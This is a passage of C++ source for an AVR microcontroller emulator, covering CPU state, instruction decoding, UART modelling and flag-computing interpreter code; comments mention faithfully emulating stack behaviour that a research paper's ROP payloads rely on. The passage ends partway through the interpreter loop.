  /// Attaching a tracer transparently demotes run() to the traced
  /// interpreter regardless of this setting; step() always interprets.
  void set_exec_tier(bool on) { exec_tier_ = on; }
  bool exec_tier() const { return exec_tier_; }

  /// Translation/invalidation/fallback counters (bench + regression tests).
  const TierStats& tier_stats() const { return tier_.stats; }

 private:
  /// The interpreter loop. Executes one instruction when `single`, else
  /// runs until the core leaves Running or `deadline` (absolute cycles) is
  /// crossed. Holding the loop inside one function keeps the hot counters
  /// (PC, cycle count, retire count) in registers across instructions.
  template <bool kTraced>
  void step_impl(std::uint64_t deadline, bool single);
  /// Superblock dispatch loop: executes translated blocks until the
  /// deadline, falling back to single cycle-exact step_impl() calls at
  /// every boundary the tier cannot prove equivalent (pending interrupt,
  /// device-dispatched access, deadline inside the block, untranslatable
  /// head). See DESIGN.md §16 for the fallback contract.
  void run_tier(std::uint64_t deadline);
  /// Interrupt delivery shared by the interpreter loop and the tier
  /// dispatcher — one definition, so delivery timing cannot diverge.
  /// Caller guarantees flag(kI) && io_.irq_hint() && !irq_lines_.empty().
  template <bool kTraced>
  void poll_irq_lines(std::uint32_t& pc, std::uint64_t& cycles);
  template <bool kTraced>
  std::uint8_t load_mem(std::uint32_t addr);
  template <bool kTraced>
  void store_mem(std::uint32_t addr, std::uint8_t value);
  const Instr& decoded(std::uint32_t word_addr);
  void sync_decode_cache();
  void set_flag(SregBit bit, bool value);
  void flags_add(std::uint8_t d, std::uint8_t r, std::uint8_t carry_in,
                 std::uint8_t res);
  void flags_sub(std::uint8_t d, std::uint8_t r, std::uint8_t borrow_in,
                 std::uint8_t res, bool keep_z);
  void flags_logic(std::uint8_t res);
  void push_byte(std::uint8_t value);
  std::uint8_t pop_byte();
  void push_pc(std::uint32_t ret_words);
  std::uint32_t pop_pc();
  std::uint32_t skip_target(std::uint32_t next_pc) const;
  void fault_now(std::uint32_t pc_words, std::uint16_t opcode,
                 std::string reason);

  const McuSpec& spec_;
  IoBus io_;
  ProgramMemory flash_;
  DataMemory data_;
  Eeprom eeprom_;
  /// Borrowed pointer at data_'s backing store (stable; see raw_data()).
  std::uint8_t* ram_;
  /// Cached spec fields, so the hot path avoids re-reading through spec_.
  std::uint32_t data_size_;
  std::uint8_t push_bytes_;

  std::uint32_t pc_ = 0;
  std::uint32_t pc_mask_;
  std::uint64_t cycles_ = 0;
  std::uint64_t retired_ = 0;
  std::uint64_t interrupts_taken_ = 0;
  CpuState state_ = CpuState::Running;
  FaultInfo fault_;
  Tracer* tracer_ = nullptr;
  std::uint32_t last_ret_raw_words_ = 0;
  bool last_ret_wrapped_ = false;

  struct IrqLine {
    std::uint8_t slot;
    IrqTakeFn take;
    void* ctx;
  };
  std::vector<IrqLine> irq_lines_;

  /// Superblock tier (see tier.hpp). The map allocates lazily on the
  /// first untraced run(), so traced/step-driven cores never pay for it.
  SuperblockCache tier_;
  bool exec_tier_ = true;

  // Decode cache, one entry per flash word; size_words == 0 marks a slot
  // as not-yet-decoded (every real decode yields 1 or 2). Re-synced to the
  // flash generation at run()/step() entry rather than per instruction —
  // flash can only be reprogrammed from outside the interpreter loop (SPM
  // is modelled as a no-op).
  std::vector<Instr> cache_;
  std::uint64_t cache_generation_ = ~std::uint64_t{0};
};

}  // namespace mavr::avr
