// AVR instruction decoder: 16-bit opcode word(s) → Instr.
//
// Encodings follow the Atmel AVR instruction set manual; the assembler's
// encoder (toolchain/encode.hpp) is the exact inverse, and the round trip is
// covered by tests/avr/decode_test.cpp.
#pragma once

#include <cstdint>

#include "avr/instr.hpp"

namespace mavr::avr {

/// Decodes the instruction whose first word is `first`; `second` must hold
/// the following flash word (used only by 32-bit encodings). Returns an
/// Instr with op == Op::Invalid for unimplemented/reserved encodings.
Instr decode(std::uint16_t first, std::uint16_t second);

}  // namespace mavr::avr
