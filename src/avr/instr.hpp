// Decoded-instruction representation for the AVR interpreter and the
// disassembler/patcher. One struct covers the whole implemented ISA; the
// decoder in decode.hpp fills it, the executor in cpu.cpp consumes it.
#pragma once

#include <cstdint>
#include <string_view>

namespace mavr::avr {

/// Implemented AVR instruction set (megaAVR subset sufficient to run the
/// generated autopilot firmware and every gadget the paper uses).
enum class Op : std::uint8_t {
  Invalid,
  // Arithmetic and logic
  Add, Adc, Sub, Subi, Sbc, Sbci, And, Andi, Or, Ori, Eor,
  Com, Neg, Inc, Dec, Mul, Cp, Cpc, Cpi, Cpse,
  Swap, Asr, Lsr, Ror, Adiw, Sbiw,
  // Register transfer
  Mov, Movw, Ldi,
  // Control flow
  Rjmp, Rcall, Jmp, Call, Ijmp, Icall, Eijmp, Eicall, Ret, Reti,
  Brbs, Brbc, Sbrc, Sbrs, Sbic, Sbis,
  // Data transfer
  Lds, Sts,
  LdX, LdXInc, LdXDec, LdYInc, LdYDec, LddY, LdZInc, LdZDec, LddZ,
  StX, StXInc, StXDec, StYInc, StYDec, StdY, StZInc, StZDec, StdZ,
  LpmR0, Lpm, LpmInc, ElpmR0, Elpm, ElpmInc,
  In, Out, Push, Pop,
  // Bit and misc
  Sbi, Cbi, Bset, Bclr, Bst, Bld,
  Nop, Sleep, Break, Wdr, Spm,
};

/// SREG bit indices (for Bset/Bclr/Brbs/Brbc and flag computation).
enum SregBit : std::uint8_t {
  kC = 0, kZ = 1, kN = 2, kV = 3, kS = 4, kH = 5, kT = 6, kI = 7,
};

/// One decoded instruction. Field use depends on `op`:
///  * `rd`, `rr`  — register numbers (or register-pair base for Movw/Adiw)
///  * `k`         — 8-bit immediate, 6-bit I/O address, 6-bit displacement q,
///                  16-bit LDS/STS data address
///  * `bit`       — bit index for bit ops / branch condition
///  * `target`    — signed word offset (Rjmp/Rcall/Brbs/Brbc) or absolute
///                  word address (Jmp/Call)
struct Instr {
  Op op = Op::Invalid;
  std::uint8_t rd = 0;
  std::uint8_t rr = 0;
  std::uint8_t bit = 0;
  std::uint16_t k = 0;
  std::int32_t target = 0;
  std::uint8_t size_words = 1;
};

/// True for the 32-bit encodings (Jmp, Call, Lds, Sts).
bool is_two_word(std::uint16_t first_word);

/// Mnemonic for an opcode ("add", "std", ...). For diagnostics and the
/// disassembler.
std::string_view op_name(Op op);

}  // namespace mavr::avr
