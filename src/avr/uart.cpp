#include "avr/uart.hpp"

#include "support/error.hpp"

namespace mavr::avr {

UartConfig usart0_config(std::uint32_t clock_hz, std::uint32_t baud) {
  // ATmega2560: UCSR0A = 0xC0, UDR0 = 0xC6 (extended I/O, LDS/STS access).
  return UartConfig{.data_addr = 0xC6,
                    .status_addr = 0xC0,
                    .clock_hz = clock_hz,
                    .baud = baud};
}

Uart::Uart(IoBus& bus, const UartConfig& config) : bus_(bus) {
  MAVR_REQUIRE(config.baud != 0, "uart baud rate must be non-zero");
  MAVR_REQUIRE(config.clock_hz != 0, "uart clock must be non-zero");
  cycles_per_byte_ =
      static_cast<std::uint64_t>(config.clock_hz) * 10 / config.baud;
  MAVR_REQUIRE(cycles_per_byte_ != 0,
               "uart baud rate exceeds what the clock can pace");
  bus.on_read(
      config.status_addr,
      [](void* self) { return static_cast<Uart*>(self)->read_status(); },
      this);
  bus.on_read(
      config.data_addr,
      [](void* self) { return static_cast<Uart*>(self)->read_data(); },
      this);
  bus.on_write(
      config.data_addr,
      [](void* self, std::uint8_t b) {
        auto* uart = static_cast<Uart*>(self);
        uart->tx_.push_back(b);
        if (uart->tap_ != nullptr) uart->tap_->on_tx(uart->now(), b);
      },
      this);
}

void Uart::host_send(std::span<const std::uint8_t> bytes) {
  if (rx_cursor_ < now()) rx_cursor_ = now();
  for (std::uint8_t b : bytes) {
    rx_cursor_ += cycles_per_byte_;
    rx_.push_back(Pending{.ready_at = rx_cursor_, .byte = b});
  }
}

support::Bytes Uart::host_take_tx() {
  support::Bytes out;
  out.swap(tx_);
  return out;
}

std::uint8_t Uart::read_status() const {
  std::uint8_t status = kUartTxReady;  // transmit never blocks the firmware
  if (!rx_.empty() && rx_.front().ready_at <= now()) status |= kUartRxComplete;
  return status;
}

std::uint8_t Uart::read_data() {
  if (rx_.empty() || rx_.front().ready_at > now()) {
    // Underrun: the real part's receive buffer just holds the last byte and
    // an idle line rests at mark, so report 0xFF — never a synthetic 0x00
    // that downstream parsers could mistake for payload.
    ++rx_underruns_;
    if (tap_ != nullptr) tap_->on_rx_underrun(now());
    return kUartIdleLine;
  }
  const std::uint8_t byte = rx_.front().byte;
  rx_.pop_front();
  if (tap_ != nullptr) tap_->on_rx(now(), byte);
  return byte;
}

}  // namespace mavr::avr
