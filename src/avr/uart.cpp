#include "avr/uart.hpp"

namespace mavr::avr {

UartConfig usart0_config(std::uint32_t clock_hz, std::uint32_t baud) {
  // ATmega2560: UCSR0A = 0xC0, UDR0 = 0xC6 (extended I/O, LDS/STS access).
  return UartConfig{.data_addr = 0xC6,
                    .status_addr = 0xC0,
                    .clock_hz = clock_hz,
                    .baud = baud};
}

Uart::Uart(IoBus& bus, const UartConfig& config)
    : cycles_per_byte_(static_cast<std::uint64_t>(config.clock_hz) * 10 /
                       config.baud) {
  bus.on_read(config.status_addr, [this] { return read_status(); });
  bus.on_read(config.data_addr, [this] { return read_data(); });
  bus.on_write(config.data_addr, [this](std::uint8_t b) { tx_.push_back(b); });
  bus.add_tickable(this);
}

void Uart::host_send(std::span<const std::uint8_t> bytes) {
  if (rx_cursor_ < now_) rx_cursor_ = now_;
  for (std::uint8_t b : bytes) {
    rx_cursor_ += cycles_per_byte_;
    rx_.push_back(Pending{.ready_at = rx_cursor_, .byte = b});
  }
}

support::Bytes Uart::host_take_tx() {
  support::Bytes out;
  out.swap(tx_);
  return out;
}

std::uint8_t Uart::read_status() const {
  std::uint8_t status = kUartTxReady;  // transmit never blocks the firmware
  if (!rx_.empty() && rx_.front().ready_at <= now_) status |= kUartRxComplete;
  return status;
}

std::uint8_t Uart::read_data() {
  if (rx_.empty() || rx_.front().ready_at > now_) return 0;
  const std::uint8_t byte = rx_.front().byte;
  rx_.pop_front();
  return byte;
}

}  // namespace mavr::avr
