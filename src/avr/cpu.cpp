#include "avr/cpu.hpp"

#include <algorithm>
#include <bit>

#include "support/hexdump.hpp"

namespace mavr::avr {

namespace {
constexpr std::uint8_t bit7(std::uint8_t v) { return (v >> 7) & 1; }
constexpr std::uint8_t bit3(std::uint8_t v) { return (v >> 3) & 1; }

/// SREG bit as a mask byte.
constexpr std::uint8_t fb(SregBit bit) {
  return static_cast<std::uint8_t>(1u << bit);
}

// Flag groups recomputed per ALU class. Each group is cleared from a local
// copy of SREG, the fresh bits OR-ed in, and the result written back once —
// the old per-flag set_flag() path cost six read-modify-write round trips
// through the data space per arithmetic instruction.
constexpr std::uint8_t kArithFlags =
    fb(kH) | fb(kC) | fb(kV) | fb(kN) | fb(kZ) | fb(kS);
constexpr std::uint8_t kLogicFlags = fb(kV) | fb(kN) | fb(kZ) | fb(kS);
constexpr std::uint8_t kShiftFlags =
    fb(kC) | fb(kV) | fb(kN) | fb(kZ) | fb(kS);

// Pure SREG calculators. The interpreter's flag helpers and the superblock
// executor (run_tier) both delegate here — one definition per formula, so
// the two execution paths cannot drift apart.
constexpr std::uint8_t sreg_add(std::uint8_t sreg, std::uint8_t d,
                                std::uint8_t r, std::uint8_t res) {
  // Branchless composition. `carries` is the full-adder carry-out vector,
  // the identity (d&r) | ((d|r) & ~res) — valid with any carry-in because
  // `res` already encodes it — so H and C are single bit extracts and V is
  // the textbook signed-overflow formula. Data-dependent flag bits are
  // close to random, so arithmetic beats branching on them.
  const unsigned carries = (d & r) | ((d | r) & ~unsigned{res});
  const unsigned v =
      ((d & r & ~unsigned{res}) | (~unsigned{d} & ~unsigned{r} & res)) >> 7;
  const unsigned n = res >> 7;
  const unsigned c = (carries >> 7) & 1;
  const unsigned h = (carries >> 3) & 1;
  const unsigned z = res == 0 ? 1u : 0u;
  return static_cast<std::uint8_t>(
      (sreg & ~unsigned{kArithFlags}) | (c << kC) | (z << kZ) | (n << kN) |
      (v << kV) | ((n ^ v) << kS) | (h << kH));
}

constexpr std::uint8_t sreg_sub(std::uint8_t sreg, std::uint8_t d,
                                std::uint8_t r, std::uint8_t res,
                                bool keep_z) {
  // Mirror of sreg_add with the borrow-out vector (~d&r) | ((~d|r)&res);
  // again `res` encodes the borrow-in, so H and C fall out as bit extracts.
  const unsigned nd = ~unsigned{d};
  const unsigned borrows = (nd & r) | ((nd | r) & res);
  const unsigned v =
      ((d & ~unsigned{r} & ~unsigned{res}) | (nd & r & res)) >> 7;
  const unsigned n = res >> 7;
  const unsigned c = (borrows >> 7) & 1;
  const unsigned h = (borrows >> 3) & 1;
  // SBC/SBCI/CPC only clear Z, never set it (multi-byte compare semantics):
  // with keep_z the old Z gates the new one.
  const unsigned zgate = keep_z ? (sreg >> kZ) & 1u : 1u;
  const unsigned z = res == 0 ? zgate : 0u;
  return static_cast<std::uint8_t>(
      (sreg & ~unsigned{kArithFlags}) | (c << kC) | (z << kZ) | (n << kN) |
      (v << kV) | ((n ^ v) << kS) | (h << kH));
}

constexpr std::uint8_t sreg_logic(std::uint8_t sreg, std::uint8_t res) {
  const unsigned n = res >> 7;
  const unsigned z = res == 0 ? 1u : 0u;
  return static_cast<std::uint8_t>((sreg & ~unsigned{kLogicFlags}) |
                                   (z << kZ) | (n << kN) |
                                   (n << kS));  // S = N ^ V with V = 0
}

constexpr std::uint8_t sreg_mul(std::uint8_t sreg, std::uint16_t res) {
  std::uint8_t s = sreg & static_cast<std::uint8_t>(~(fb(kC) | fb(kZ)));
  if ((res >> 15) & 1) s |= fb(kC);
  if (res == 0) s |= fb(kZ);
  return s;
}

constexpr std::uint8_t sreg_com(std::uint8_t sreg, std::uint8_t res) {
  std::uint8_t s = sreg & static_cast<std::uint8_t>(~(kLogicFlags | fb(kC)));
  s |= fb(kC);  // COM always sets carry
  if (bit7(res)) s |= fb(kN) | fb(kS);
  if (res == 0) s |= fb(kZ);
  return s;
}

constexpr std::uint8_t sreg_neg(std::uint8_t sreg, std::uint8_t d,
                                std::uint8_t res) {
  const bool n = bit7(res) != 0, v = res == 0x80;
  std::uint8_t s = sreg & static_cast<std::uint8_t>(~kArithFlags);
  if ((bit3(res) | bit3(d)) != 0) s |= fb(kH);
  if (res != 0) s |= fb(kC);
  if (v) s |= fb(kV);
  if (n) s |= fb(kN);
  if (res == 0) s |= fb(kZ);
  if (n != v) s |= fb(kS);
  return s;
}

constexpr std::uint8_t sreg_inc(std::uint8_t sreg, std::uint8_t res) {
  const bool n = bit7(res) != 0, v = res == 0x80;
  std::uint8_t s = sreg & static_cast<std::uint8_t>(~kLogicFlags);
  if (v) s |= fb(kV);
  if (n) s |= fb(kN);
  if (res == 0) s |= fb(kZ);
  if (n != v) s |= fb(kS);
  return s;
}

constexpr std::uint8_t sreg_dec(std::uint8_t sreg, std::uint8_t res) {
  const bool n = bit7(res) != 0, v = res == 0x7F;
  std::uint8_t s = sreg & static_cast<std::uint8_t>(~kLogicFlags);
  if (v) s |= fb(kV);
  if (n) s |= fb(kN);
  if (res == 0) s |= fb(kZ);
  if (n != v) s |= fb(kS);
  return s;
}

/// ASR and ROR share this: C from the shifted-out bit, V = N ^ C.
constexpr std::uint8_t sreg_asr_ror(std::uint8_t sreg, std::uint8_t d,
                                    std::uint8_t res) {
  const bool c = (d & 1) != 0, n = bit7(res) != 0, v = n != c;
  std::uint8_t s = sreg & static_cast<std::uint8_t>(~kShiftFlags);
  if (c) s |= fb(kC);
  if (n) s |= fb(kN);
  if (res == 0) s |= fb(kZ);
  if (v) s |= fb(kV);
  if (n != v) s |= fb(kS);
  return s;
}

constexpr std::uint8_t sreg_lsr(std::uint8_t sreg, std::uint8_t d,
                                std::uint8_t res) {
  std::uint8_t s = sreg & static_cast<std::uint8_t>(~kShiftFlags);
  // N = 0, so V = N ^ C = C and S = N ^ V = C.
  if (d & 1) s |= fb(kC) | fb(kV) | fb(kS);
  if (res == 0) s |= fb(kZ);
  return s;
}

constexpr std::uint8_t sreg_adiw(std::uint8_t sreg, std::uint16_t d,
                                 std::uint16_t res) {
  const bool rdh7 = ((d >> 15) & 1) != 0, r15 = ((res >> 15) & 1) != 0;
  const bool v = !rdh7 && r15;
  std::uint8_t s = sreg & static_cast<std::uint8_t>(~kShiftFlags);
  if (v) s |= fb(kV);
  if (!r15 && rdh7) s |= fb(kC);
  if (r15) s |= fb(kN);
  if (res == 0) s |= fb(kZ);
  if (r15 != v) s |= fb(kS);
  return s;
}

constexpr std::uint8_t sreg_sbiw(std::uint8_t sreg, std::uint16_t d,
                                 std::uint16_t res) {
  const bool rdh7 = ((d >> 15) & 1) != 0, r15 = ((res >> 15) & 1) != 0;
  const bool v = rdh7 && !r15;
  std::uint8_t s = sreg & static_cast<std::uint8_t>(~kShiftFlags);
  if (v) s |= fb(kV);
  if (r15 && !rdh7) s |= fb(kC);
  if (r15) s |= fb(kN);
  if (res == 0) s |= fb(kZ);
  if (r15 != v) s |= fb(kS);
  return s;
}
}  // namespace

namespace {
/// Decode-cache sentinel: size_words == 0 never comes out of decode().
constexpr Instr kUndecoded{.op = Op::Invalid,
                           .rd = 0,
                           .rr = 0,
                           .bit = 0,
                           .k = 0,
                           .target = 0,
                           .size_words = 0};
}  // namespace

Cpu::Cpu(const McuSpec& spec)
    : spec_(spec),
      flash_(spec),
      data_(spec, io_),
      eeprom_(spec),
      ram_(data_.raw_data()),
      data_size_(spec.data_space_bytes()),
      push_bytes_(static_cast<std::uint8_t>(spec.pc_push_bytes)),
      pc_mask_(spec.flash_words() - 1),
      cache_(spec.flash_words(), kUndecoded) {
  MAVR_CHECK(std::has_single_bit(spec.flash_words()),
             "flash word count must be a power of two for PC wrapping");
  io_.bind_backing(data_.raw_data());
  cache_generation_ = flash_.generation();
  reset();
}

void Cpu::reset() {
  data_.clear();
  io_.restore_latches();
  pc_ = 0;
  set_sp(static_cast<std::uint16_t>(spec_.ramend()));
  state_ = CpuState::Running;
  fault_ = FaultInfo{};
  last_ret_raw_words_ = 0;
  last_ret_wrapped_ = false;
}

const Instr& Cpu::decoded(std::uint32_t word_addr) {
  Instr& in = cache_[word_addr];
  if (in.size_words == 0) [[unlikely]] {
    in = decode(flash_.word(word_addr),
                flash_.word((word_addr + 1) & pc_mask_));
  }
  return in;
}

void Cpu::sync_decode_cache() {
  if (cache_generation_ != flash_.generation()) {
    std::fill(cache_.begin(), cache_.end(), kUndecoded);
    cache_generation_ = flash_.generation();
  }
}

void Cpu::set_flag(SregBit bit, bool value) {
  std::uint8_t s = sreg();
  if (value) {
    s |= static_cast<std::uint8_t>(1u << bit);
  } else {
    s &= static_cast<std::uint8_t>(~(1u << bit));
  }
  set_sreg(s);
}

void Cpu::flags_add(std::uint8_t d, std::uint8_t r, std::uint8_t carry_in,
                    std::uint8_t res) {
  (void)carry_in;  // `res` already encodes it; see sreg_add
  set_sreg(sreg_add(sreg(), d, r, res));
}

void Cpu::flags_sub(std::uint8_t d, std::uint8_t r, std::uint8_t borrow_in,
                    std::uint8_t res, bool keep_z) {
  (void)borrow_in;
  set_sreg(sreg_sub(sreg(), d, r, res, keep_z));
}

void Cpu::flags_logic(std::uint8_t res) {
  set_sreg(sreg_logic(sreg(), res));
}

void Cpu::push_byte(std::uint8_t value) {
  // Stack traffic is deliberately not routed through load_mem/store_mem:
  // tracers observe it via on_sp_change / on_call / on_ret instead, keeping
  // on_load/on_store scoped to the program's explicit data accesses.
  const std::uint16_t sp_now = sp();
  data_.store(sp_now, value);
  set_sp(static_cast<std::uint16_t>(sp_now - 1));
}

std::uint8_t Cpu::pop_byte() {
  const std::uint16_t sp_now = static_cast<std::uint16_t>(sp() + 1);
  set_sp(sp_now);
  return data_.load(sp_now);
}

void Cpu::push_pc(std::uint32_t ret_words) {
  // Hardware pushes the LSB first, so ascending memory reads big-endian —
  // the byte order every ROP payload in the paper (Fig. 6) relies on.
  //
  // Fast path: when every pushed byte lands in plain RAM (at or above the
  // I/O region, below the data-space end) the writes cannot hit a device
  // handler, cannot wrap, and cannot alias SPL/SPH — so batching them is
  // exactly equivalent to the byte-at-a-time sequence. A stack pivoted
  // into the I/O region or off the end takes the general path, which
  // re-reads SP between bytes (a push that rewrites SPL redirects the
  // bytes that follow, and the ROP payloads depend on that).
  const std::uint16_t sp_now = sp();
  const unsigned n = push_bytes_;
  if (sp_now >= kExtIoEnd + (n - 1) && sp_now < data_size_) [[likely]] {
    ram_[sp_now] = static_cast<std::uint8_t>(ret_words & 0xFF);
    ram_[sp_now - 1] = static_cast<std::uint8_t>((ret_words >> 8) & 0xFF);
    if (n == 3) {
      ram_[sp_now - 2] = static_cast<std::uint8_t>((ret_words >> 16) & 0xFF);
    }
    set_sp(static_cast<std::uint16_t>(sp_now - n));
    return;
  }
  push_byte(static_cast<std::uint8_t>(ret_words & 0xFF));
  push_byte(static_cast<std::uint8_t>((ret_words >> 8) & 0xFF));
  if (n == 3) {
    push_byte(static_cast<std::uint8_t>((ret_words >> 16) & 0xFF));
  }
}

std::uint32_t Cpu::pop_pc() {
  // Returns the raw popped value; callers apply pc_mask_. Preserving the
  // unmasked bytes lets a wild return from a smashed stack be diagnosed
  // instead of silently wrapping into valid flash.
  //
  // Same fast path as push_pc: plain-RAM loads have no side effects, so
  // batching them is exact whenever all n bytes sit in [kExtIoEnd, end).
  const std::uint32_t sp_now = sp();
  const unsigned n = push_bytes_;
  if (sp_now + 1 >= kExtIoEnd && sp_now + n < data_size_) [[likely]] {
    std::uint32_t value = 0;
    for (unsigned i = 1; i <= n; ++i) value = (value << 8) | ram_[sp_now + i];
    set_sp(static_cast<std::uint16_t>(sp_now + n));
    return value;
  }
  std::uint32_t value = 0;
  if (n == 3) value = pop_byte();
  value = (value << 8) | pop_byte();
  value = (value << 8) | pop_byte();
  return value;
}

std::uint32_t Cpu::skip_target(std::uint32_t next_pc) const {
  // Skip over the next instruction: 1 or 2 words.
  const std::uint16_t w = flash_.word(next_pc);
  return (next_pc + (is_two_word(w) ? 2 : 1)) & pc_mask_;
}

void Cpu::fault_now(std::uint32_t pc_words, std::uint16_t opcode,
                    std::string reason) {
  state_ = CpuState::Faulted;
  fault_.pc_words = pc_words;
  fault_.opcode = opcode;
  fault_.reason = std::move(reason);
  fault_.cycle = cycles_;
  fault_.last_ret_raw_words = last_ret_raw_words_;
  fault_.last_ret_wrapped = last_ret_wrapped_;
}

template <bool kTraced>
std::uint8_t Cpu::load_mem(std::uint32_t addr) {
  const std::uint8_t value = data_.load(addr);
  if constexpr (kTraced) tracer_->on_load(*this, addr, value);
  return value;
}

template <bool kTraced>
void Cpu::store_mem(std::uint32_t addr, std::uint8_t value) {
  data_.store(addr, value);
  if constexpr (kTraced) tracer_->on_store(*this, addr, value);
}

// The interpreter body is instantiated twice: the kTraced=false build is
// byte-for-byte the old hook-free loop, the kTraced=true build weaves the
// Tracer callbacks in. step()/run() pick an instantiation with a single
// null-pointer branch, so disabling tracing costs nothing in the hot path.
template <bool kTraced>
void Cpu::step_impl(std::uint64_t deadline, bool single) {
  if (state_ != CpuState::Running) return;

  // The hot architectural counters live in locals for the whole loop: byte
  // stores through ram_ may alias any member (char-type aliasing), so
  // member counters would be reloaded and re-stored every instruction,
  // while loop locals stay in registers. The traced instantiation syncs
  // the members around every hook so tracers observe exactly the
  // per-instruction state the member-based loop exposed; cold exits
  // (fault, a throwing device handler) sync before leaving.
  std::uint32_t pc = pc_;
  std::uint64_t cycles = cycles_;
  std::uint64_t retired = retired_;
  try {
  do {
  if constexpr (kTraced) {
    pc_ = pc;
    cycles_ = cycles;
    retired_ = retired;
  }
  const std::uint32_t pc0 = pc;
  [[maybe_unused]] std::uint16_t sp0 = 0;
  if constexpr (kTraced) sp0 = sp();
  // Executed from a by-value copy: the interpreter's data-space byte stores
  // could alias a cache_ reference, forcing field reloads after every store.
  const Instr in = decoded(pc0);
  std::uint32_t next = (pc0 + in.size_words) & pc_mask_;
  std::uint32_t cyc = 1;

  switch (in.op) {
    case Op::Invalid:
      pc_ = pc;
      cycles_ = cycles;
      retired_ = retired;
      fault_now(pc0, flash_.word(pc0),
                "invalid opcode " + support::hex_value(flash_.word(pc0)));
      if constexpr (kTraced) tracer_->on_fault(*this, fault_);
      return;

    case Op::Nop:
    case Op::Sleep:
    case Op::Wdr:
    case Op::Spm:
      break;
    case Op::Break:
      state_ = CpuState::Stopped;
      break;

    // --- Two-register ALU ---------------------------------------------
    case Op::Add: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t res = static_cast<std::uint8_t>(d + r);
      set_reg(in.rd, res);
      flags_add(d, r, 0, res);
      break;
    }
    case Op::Adc: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t carry = flag(kC);
      const std::uint8_t res = static_cast<std::uint8_t>(d + r + carry);
      set_reg(in.rd, res);
      flags_add(d, r, carry, res);
      break;
    }
    case Op::Sub: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r);
      set_reg(in.rd, res);
      flags_sub(d, r, 0, res, /*keep_z=*/false);
      break;
    }
    case Op::Sbc: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t borrow = flag(kC);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r - borrow);
      set_reg(in.rd, res);
      flags_sub(d, r, borrow, res, /*keep_z=*/true);
      break;
    }
    case Op::And: {
      const std::uint8_t res = reg(in.rd) & reg(in.rr);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Or: {
      const std::uint8_t res = reg(in.rd) | reg(in.rr);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Eor: {
      const std::uint8_t res = reg(in.rd) ^ reg(in.rr);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Mov:
      set_reg(in.rd, reg(in.rr));
      break;
    case Op::Movw:
      set_reg(in.rd, reg(in.rr));
      set_reg(in.rd + 1, reg(in.rr + 1));
      break;
    case Op::Mul: {
      const std::uint16_t res =
          static_cast<std::uint16_t>(unsigned(reg(in.rd)) * reg(in.rr));
      set_reg(0, static_cast<std::uint8_t>(res & 0xFF));
      set_reg(1, static_cast<std::uint8_t>(res >> 8));
      set_sreg(sreg_mul(sreg(), res));
      cyc = 2;
      break;
    }
    case Op::Cp: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      flags_sub(d, r, 0, static_cast<std::uint8_t>(d - r), false);
      break;
    }
    case Op::Cpc: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t borrow = flag(kC);
      flags_sub(d, r, borrow, static_cast<std::uint8_t>(d - r - borrow),
                /*keep_z=*/true);
      break;
    }
    case Op::Cpse: {
      if (reg(in.rd) == reg(in.rr)) {
        next = skip_target(next);
        cyc = 2;
      }
      break;
    }

    // --- Immediate ALU -------------------------------------------------
    case Op::Ldi:
      set_reg(in.rd, static_cast<std::uint8_t>(in.k));
      break;
    case Op::Subi: {
      const std::uint8_t d = reg(in.rd), r = static_cast<std::uint8_t>(in.k);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r);
      set_reg(in.rd, res);
      flags_sub(d, r, 0, res, false);
      break;
    }
    case Op::Sbci: {
      const std::uint8_t d = reg(in.rd), r = static_cast<std::uint8_t>(in.k);
      const std::uint8_t borrow = flag(kC);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r - borrow);
      set_reg(in.rd, res);
      flags_sub(d, r, borrow, res, /*keep_z=*/true);
      break;
    }
    case Op::Andi: {
      const std::uint8_t res = reg(in.rd) & static_cast<std::uint8_t>(in.k);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Ori: {
      const std::uint8_t res = reg(in.rd) | static_cast<std::uint8_t>(in.k);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Cpi: {
      const std::uint8_t d = reg(in.rd), r = static_cast<std::uint8_t>(in.k);
      flags_sub(d, r, 0, static_cast<std::uint8_t>(d - r), false);
      break;
    }

    // --- One-register ALU ----------------------------------------------
    case Op::Com: {
      const std::uint8_t res = static_cast<std::uint8_t>(~reg(in.rd));
      set_reg(in.rd, res);
      set_sreg(sreg_com(sreg(), res));
      break;
    }
    case Op::Neg: {
      const std::uint8_t d = reg(in.rd);
      const std::uint8_t res = static_cast<std::uint8_t>(0 - d);
      set_reg(in.rd, res);
      set_sreg(sreg_neg(sreg(), d, res));
      break;
    }
    case Op::Inc: {
      const std::uint8_t res = static_cast<std::uint8_t>(reg(in.rd) + 1);
      set_reg(in.rd, res);
      set_sreg(sreg_inc(sreg(), res));
      break;
    }
    case Op::Dec: {
      const std::uint8_t res = static_cast<std::uint8_t>(reg(in.rd) - 1);
      set_reg(in.rd, res);
      set_sreg(sreg_dec(sreg(), res));
      break;
    }
    case Op::Swap: {
      const std::uint8_t d = reg(in.rd);
      set_reg(in.rd,
              static_cast<std::uint8_t>((d << 4) | (d >> 4)));
      break;
    }
    case Op::Asr: {
      const std::uint8_t d = reg(in.rd);
      const std::uint8_t res = static_cast<std::uint8_t>((d >> 1) | (d & 0x80));
      set_reg(in.rd, res);
      set_sreg(sreg_asr_ror(sreg(), d, res));
      break;
    }
    case Op::Lsr: {
      const std::uint8_t d = reg(in.rd);
      const std::uint8_t res = static_cast<std::uint8_t>(d >> 1);
      set_reg(in.rd, res);
      set_sreg(sreg_lsr(sreg(), d, res));
      break;
    }
    case Op::Ror: {
      const std::uint8_t d = reg(in.rd);
      const std::uint8_t res =
          static_cast<std::uint8_t>((d >> 1) | (flag(kC) ? 0x80 : 0));
      set_reg(in.rd, res);
      set_sreg(sreg_asr_ror(sreg(), d, res));
      break;
    }
    case Op::Adiw: {
      const std::uint16_t d = reg_pair(in.rd);
